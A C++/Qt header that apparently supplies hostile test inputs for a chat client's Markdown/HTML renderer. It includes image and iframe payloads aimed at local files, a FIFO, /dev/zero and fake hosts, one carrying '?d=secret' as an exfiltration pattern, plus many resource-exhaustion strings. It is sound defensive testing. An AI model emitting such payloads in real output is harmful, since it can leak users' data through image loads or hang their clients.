// SPDX-License-Identifier: GPL-3.0-or-later
#pragma once
#include <QStringList>

/// Text that a hostile model could send. %1 is a folder with "image.png", "fifo" and "page.html"; the hosts do not exist.
inline QStringList hostilePayloads(const QString &folder)
{
    const QStringList targets = { QStringLiteral("%1/image.png"), QStringLiteral("%1/fifo"),
        QStringLiteral("file://%1/image.png"), QStringLiteral("file://%1/fifo"), QStringLiteral("file:///dev/zero"),
        QStringLiteral("/dev/zero"), QStringLiteral("//payload.invalid/x.png"), QStringLiteral("http://payload.invalid/x.png"),
        QStringLiteral("https://payload.invalid/x.png?d=secret"), QStringLiteral("ftp://payload.invalid/x.png"),
        QStringLiteral("qrc:/icons/copy.svg"), QStringLiteral(":/icons/copy.svg"),
        QStringLiteral("data:image/png;base64,iVBORw0KGgo=") };
    QStringList payloads;
    for (const QString &target : targets) {
        const QString at = target.contains(QLatin1String("%1")) ? target.arg(folder) : target;
        payloads << QStringLiteral("![picture](%1)").arg(at) << QStringLiteral("text ![](<%1> \"title\") text").arg(at)
                 << QStringLiteral("![ref][r]\n\n[r]: %1\n").arg(at) << QStringLiteral("<img src=\"%1\">").arg(at)
                 << QStringLiteral("[![inside a link](%1)](%1)").arg(at)
                 << QStringLiteral("| a |\n|---|\n| ![cell](%1) |\n").arg(at) << QStringLiteral("> - ![quoted](%1)\n").arg(at);
    }
    payloads << QStringLiteral("<link rel=stylesheet href=\"%1/page.html\"><style>@import url(%1/page.html);</style>").arg(folder)
             << QStringLiteral("<iframe src=\"file://%1/page.html\"></iframe><object data=\"%1/image.png\"></object>").arg(folder)
             << QStringLiteral("<table background=\"%1/image.png\"><tr><td>x</td></tr></table>").arg(folder)
             << QStringLiteral("<body style=\"background-image:url(%1/fifo)\">").arg(folder)
             << QStringLiteral("&lt;img src=%1/image.png&gt; &#60;img src='%1/fifo'&#62;").arg(folder)
             << QStringLiteral("&amp;").repeated(20'000) << QStringLiteral("*a ").repeated(20'000)
             << QStringLiteral("**a_b_").repeated(8000) << QStringLiteral("[").repeated(20'000)
             << QStringLiteral("[a](").repeated(10'000) << QStringLiteral("![").repeated(10'000)
             << QStringLiteral("> ").repeated(5000) + QStringLiteral("deep")
             << QStringLiteral("- ").repeated(5000) + QStringLiteral("deep")
             << QStringLiteral("`").repeated(9999) + QStringLiteral("x") << QStringLiteral("<").repeated(20'000)
             << QStringLiteral("a").repeated(200'000) << QStringLiteral("a\u0301\u0302\u0303").repeated(10'000)
             << QStringLiteral("\u202e\u2066abc").repeated(1000)
             << QStringLiteral("```x\n") + QStringLiteral("code line\n").repeated(10'000)
             << QStringLiteral("| a | b |\n|---|---|\n") + QStringLiteral("| 1 | 2 |\n").repeated(2000)
             << QStringLiteral("|a").repeated(1000) + QLatin1Char('\n') + QStringLiteral("|-").repeated(1000) + QLatin1Char('\n')
             << QStringLiteral("paragraph\n\n").repeated(8000) << QStringLiteral("- item\n").repeated(5000)
             << QString(5000, QChar(0)) << QStringLiteral("\ufdd0\ufdd1\ufffc\u2028\u2029").repeated(200);
    return payloads;
}
